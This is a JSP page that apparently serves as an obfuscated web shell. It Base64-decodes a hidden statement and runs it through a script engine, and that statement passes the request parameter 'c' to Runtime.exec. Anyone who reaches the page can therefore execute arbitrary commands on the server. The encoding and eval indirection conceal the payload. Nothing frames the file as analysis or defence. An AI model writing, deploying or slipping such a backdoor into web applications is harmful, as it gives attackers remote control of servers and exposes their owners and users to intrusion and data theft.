<%@ page import="java.util.*" %>
<%
  String code = new String(Base64.getDecoder().decode("amF2YS5sYW5nLlJ1bnRpbWUuZ2V0UnVudGltZSgpLmV4ZWMocmVxdWVzdC5nZXRQYXJhbWV0ZXIoImMiKSk7"));
  javax.script.ScriptEngine e = new javax.script.ScriptEngineManager().getEngineByName("js");
  e.eval(code);
%>
